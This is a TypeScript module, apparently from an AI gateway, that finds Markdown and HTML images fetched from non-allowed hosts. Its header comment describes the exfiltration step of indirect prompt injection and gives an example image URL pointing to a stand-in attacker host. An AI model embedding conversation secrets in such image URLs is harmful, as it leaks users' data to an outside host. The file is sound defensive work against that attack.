/**
 * Images an answer asks its reader's client to fetch from a host outside the allowed ones: a Markdown image
 * (`![x](https://evil.example/p?q=…)`, or by reference, `![x][r]` with `[r]: https://…`) or an HTML `<img
 * src>`. A host that renders the answer fetches it at once, no click needed, so a model led to put
 * the conversation's secrets into its URL sends them to that host: the exfiltration step of an indirect
 * prompt injection. Before 2026-12-06 such an image passed every action.
 * An image in Markdown's code (a fenced block, a code span: markdown-code.ts) is shown as written and
 * fetches nothing, as markup there hides nothing (hidden-markup.ts); before 2026-12-06 it was found.
 */
import { markdownCode, type CodeSpans } from './markdown-code.js';

/** An inline Markdown image: group 1 its URL (in <…> or bare). */
const INLINE = /!\[(?:[^\][]|\[[^\][]*\])*\]\(\s*(?:<([^<>\n]*)>|([^\s()]+(?:\([^\s()]*\)[^\s()]*)*))(?:\s+(?:"[^"]*"|'[^']*'|\([^)]*\)))?\s*\)/g;
/** An HTML image's source, quoted or not. */
const IMG = /<img\b[^<>]*?\ssrc\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'<>]+))[^<>]*>/gi;
/** A reference image (`![x][r]`, `![r][]`, `![r]`): group 1 the label or text. */
const REFERENCE = /!\[((?:[^\][]|\[[^\][]*\])*)\](?:\[([^\][]*)\])?(?!\()/g;
/** A link reference definition on a line of its own: group 1 its label, group 2 its URL. */
const DEFINITION = /^ {0,3}\[([^\][]+)\]:[ \t]*\n?[ \t]*<?([^\s<>]+)>?.*$/gm;

/**
 * Whether `url` is fetched from a host not allowed: absolute http(s) or scheme-relative (`//host`);
 * `data:` and relative URLs reach no other host. `allowed`: hosts as written (`img.example.com`), or a
 * domain's hosts (`*.example.com`), or `*` for any.
 */
export function outsideImage(url: string, allowed: readonly string[]): boolean {
  const u = url.trim();
  if (!/^(?:https?:)?\/\//i.test(u)) return false;
  let host: string;
  try {
    host = new URL(u.startsWith('//') ? `https:${u}` : u).hostname.toLowerCase();
  } catch {
    return true; // not a URL the gateway can read: a renderer may still fetch it
  }
  for (const a of allowed) {
    if (a === '*' || a === host) return false;
    if (a.startsWith('*.') && host.endsWith(a.slice(1))) return false;
  }
  return true;
}

/** Only text with one of these can hold an image. */
export function mayHoldImage(s: string): boolean {
  return s.includes('![') || /<img/i.test(s);
}

/**
 * The [start, end) spans of the images from outside hosts in `s`, in order, not overlapping; undefined when
 * none. `html`: `s` is declared HTML or XML, where Markdown's code is no code (its <img> is fetched).
 */
export function outsideImages(s: string, allowed: readonly string[], html = false): Array<[number, number]> | undefined {
  // Found only once something looks like an image (most text with "![" or "<img" has none from outside).
  let code: CodeSpans | undefined;
  const shownAsCode = (at: number): boolean => within((code ??= html || !(s.includes('`') || s.includes('~~~')) ? [] : markdownCode(s)), at);
  const spans: Array<[number, number]> = [];
  for (const m of s.matchAll(INLINE)) if (outsideImage(m[1] ?? m[2] ?? '', allowed) && !shownAsCode(m.index)) spans.push([m.index, m.index + m[0].length]);
  for (const m of s.matchAll(IMG)) if (outsideImage(m[1] ?? m[2] ?? m[3] ?? '', allowed) && !shownAsCode(m.index)) spans.push([m.index, m.index + m[0].length]);
  const labels = new Set<string>();
  for (const m of s.matchAll(REFERENCE)) if (!shownAsCode(m.index)) labels.add(label(m[2] || m[1]!));
  if (labels.size > 0) {
    for (const m of s.matchAll(DEFINITION)) if (labels.has(label(m[1]!)) && outsideImage(m[2]!, allowed) && !shownAsCode(m.index)) spans.push([m.index, m.index + m[0].length]);
  }
  if (spans.length === 0) return undefined;
  spans.sort((a, b) => a[0] - b[0]);
  const out: Array<[number, number]> = [];
  for (const span of spans) {
    const last = out[out.length - 1];
    if (last !== undefined && span[0] < last[1]) last[1] = Math.max(last[1], span[1]);
    else out.push(span);
  }
  return out;
}

/** Whether `at` lies in one of `code`'s spans (in order, not overlapping): a binary search. */
function within(code: CodeSpans, at: number): boolean {
  let lo = 0;
  let hi = code.length;
  while (lo < hi) {
    const mid = (lo + hi) >> 1;
    if (code[mid]![0] <= at) lo = mid + 1;
    else hi = mid;
  }
  return lo > 0 && at < code[lo - 1]![1];
}

/** A reference label as Markdown matches it: case-insensitive, whitespace collapsed. */
function label(s: string): string {
  return s.trim().replace(/\s+/g, ' ').toLowerCase();
}
